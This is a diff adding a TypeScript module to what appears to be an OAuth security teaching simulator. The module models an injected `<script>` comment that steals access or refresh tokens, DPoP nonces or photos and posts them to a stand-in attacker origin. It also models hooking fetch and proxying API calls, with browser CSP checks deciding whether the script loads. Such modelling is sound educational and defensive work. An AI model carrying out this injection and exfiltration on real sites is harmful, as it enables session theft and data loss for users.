@@ -1,0 +1,162 @@
+/** What the attacker's script does in the page: it is loaded like any other, and can do whatever the page can. */
+import { EVIL_ORIGIN } from "@/lib/cast/attacked";
+import { CLIENT_ORIGIN } from "@/lib/cast/cast";
+import { inPhase } from "@/lib/cast/steps/in-phase";
+import type { AttackVariant, StepContext } from "@/lib/flow/define";
+import type { Move } from "@/lib/flow/move";
+import { formatPairs, type Pairs } from "@/lib/http/form";
+import { get, post } from "@/lib/http/message";
+import { FINDS_PATH, SCRIPT_PATH } from "@/lib/parties/attacker/script-host";
+import { sourceChecks } from "@/lib/parties/browser/checks/scripts";
+import { fromPage } from "@/lib/parties/browser/script-call";
+import { proverOf } from "@/lib/parties/client/dpop";
+import { sessionOf } from "@/lib/parties/client/session";
+import { photosOf } from "@/lib/parties/client/tokens";
+import { guard } from "@/lib/parties/guard";
+import { levelOf } from "@/lib/vocabulary/settings";
+import { recall } from "@/lib/world/world";
+import { callFromPage, readableStores } from "./page";
+import { injectWords, proxyWords, takeWords } from "./words-script";
+
+export const variants = [
+	{
+		id: "token",
+		name: "takes the access token",
+		does: "The script takes the access token from where the page has it, and the attacker calls the API (RFC 10017 §5.1.1).",
+	},
+	{
+		id: "refresh",
+		name: "takes the refresh token",
+		does: "The script takes the refresh token, and the attacker gets access tokens with it (RFC 10017 §5.2.1).",
+	},
+	{
+		id: "silent",
+		name: "asks for tokens of its own",
+		does: "The script begins a flow that Ada does not see, in her session at the authorization server (RFC 10017 §5.1.3).",
+	},
+	{
+		id: "proxy",
+		name: "calls the API from the page",
+		does: "The script takes no token: it makes the call in the page, as the page itself would (RFC 10017 §5.1.4).",
+	},
+] as const satisfies readonly AttackVariant[];
+
+type Choice = "LOOKS" | "BEGINS_FLOW" | "CALLS";
+const choices: Readonly<Record<string, Choice>> = { silent: "BEGINS_FLOW", proxy: "CALLS" };
+
+const SCRIPT = `${EVIL_ORIGIN}${SCRIPT_PATH}`;
+
+/** What the page says of itself in its HTML (Content Security Policy in a `meta` element). */
+const policyOf = (html = ""): { readonly policy?: string } => {
+	const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/i.exec(html)?.[1];
+	return policy === undefined ? {} : { policy };
+};
+
+/** A comment stands below a photo, and the page writes it into itself as it is. */
+export const runInPage: Move<Choice | "NOT_LOADED" | "NOTHING_RUNS"> = {
+	phase: "use",
+	actor: "user",
+	does: "loads a script",
+	text: "Somebody has written a comment with a script in it, and the page writes that into itself. The browser loads the script, if the page lets it.",
+	events: {
+		LOOKS: "The script runs, and looks for tokens.",
+		BEGINS_FLOW: "The script runs, and begins a flow of its own.",
+		CALLS: "The script runs, and calls the API.",
+		NOT_LOADED: "The browser does not load the script.",
+		NOTHING_RUNS: "What was loaded is no script.",
+	},
+	step: {
+		kind: "run",
+		run: async (ctx) => {
+			const { page } = recall(ctx.world, "user", "browser");
+			ctx.work("user", { note: "inject" }, () => ({
+				result: undefined,
+				facts: [{ name: "comment", text: `<script src="${SCRIPT}"></script>` }],
+			}));
+			const subject = { origin: CLIENT_ORIGIN, source: SCRIPT, ...policyOf(page?.html) };
+			const judging = { note: "script", place: "browser" } as const;
+			if (await ctx.judge("user", judging, (at) => guard(sourceChecks, subject, at))) return { type: "NOT_LOADED" };
+			const { response } = await ctx.send("user", get(SCRIPT), { channel: "front", note: "script" });
+			if (response.status !== 200) return { type: "NOTHING_RUNS" };
+			return { type: choices[ctx.settings.variant ?? ""] ?? "LOOKS" };
+		},
+	},
+	words: injectWords,
+};
+
+/** The script posts what it has to its own host. Any page can post a form, so the browser asks nobody. */
+export const sendOut = async (ctx: StepContext, fields: Pairs): Promise<void> => {
+	const request = fromPage(CLIENT_ORIGIN, post(`${EVIL_ORIGIN}${FINDS_PATH}`, formatPairs(fields)));
+	await ctx.send("user", request, { channel: "front", note: "sendOut", phase: "after" });
+};
+
+/** Nonces are no secrets of a page: with them, a proof by any key is as recent as one of the page's. */
+export function noncesIn(ctx: StepContext): Pairs {
+	const { dpop } = recall(ctx.world, "client", "client");
+	const prover = proverOf(ctx.at("attacker"));
+	if (!prover || !dpop || levelOf(ctx.settings, "storage") === "bff") return [];
+	Object.assign(prover.nonces, dpop.nonces);
+	return [...new Set(Object.values(dpop.nonces))].map((text) => ["dpop_nonce", text]);
+}
+
+/** In memory nothing lies about. What the page uses goes through functions that any script of it can replace (RFC 10017 §8.4). */
+async function hookCall(ctx: StepContext): Promise<Pairs> {
+	ctx.work("user", { note: "hook" }, () => ({ result: undefined, facts: [{ name: "fetch", text: "replaced" }] }));
+	ctx.wait(20);
+	await callFromPage(inPhase(ctx, "use"), "again");
+	return [["access_token", sessionOf(ctx.at("client")).accessToken ?? ""]];
+}
+
+/** What the script finds at a look, or has to wait for. */
+async function findTokens(ctx: StepContext): Promise<Pairs> {
+	const found = readableStores(ctx);
+	ctx.work("user", { note: "look" }, () => ({ result: undefined, facts: found }));
+	if (levelOf(ctx.settings, "storage") === "memory") return ctx.settings.variant === "refresh" ? [] : hookCall(ctx);
+	return found.flatMap(({ name, text }) => (name.endsWith("_token") ? [[name, text] as const] : []));
+}
+
+export const takeTokens: Move<"TOKEN_SENT" | "REFRESH_SENT" | "NOTHING"> = {
+	phase: "after",
+	actor: "attacker",
+	does: "receives tokens",
+	text: "The script looks for tokens, and sends what it finds to the attacker.",
+	events: {
+		TOKEN_SENT: "The attacker has the page's access token.",
+		REFRESH_SENT: "The attacker has the page's refresh token.",
+		NOTHING: "No token that the attacker wants reaches it.",
+	},
+	step: {
+		kind: "run",
+		run: async (ctx) => {
+			const tokens = await findTokens(ctx);
+			if (tokens.length > 0) await sendOut(ctx, [...tokens, ...noncesIn(ctx)]);
+			const { accessToken, refreshToken } = recall(ctx.world, "attacker", "attacker");
+			if (ctx.settings.variant === "refresh") return { type: refreshToken === undefined ? "NOTHING" : "REFRESH_SENT" };
+			return { type: accessToken === undefined ? "NOTHING" : "TOKEN_SENT" };
+		},
+	},
+	words: takeWords,
+};
+
+/** The call of the page, made once more by another script of the page. */
+export const callAsPage: Move<"READ" | "DENIED"> = {
+	phase: "use",
+	actor: "attacker",
+	does: "receives the photos",
+	text: "The script calls the API in the way in which the page does, and sends the attacker what comes back.",
+	events: { READ: "The attacker has the photos.", DENIED: "No photos reach the attacker." },
+	step: {
+		kind: "run",
+		run: async (ctx) => {
+			const response = await callFromPage(ctx, "proxied");
+			const photos = response && photosOf(response);
+			if (photos)
+				await sendOut(
+					ctx,
+					photos.map((photo) => ["photo", photo] as const),
+				);
+			return { type: recall(ctx.world, "attacker", "attacker").photos === undefined ? "DENIED" : "READ" };
+		},
+	},
+	words: proxyWords,
+};
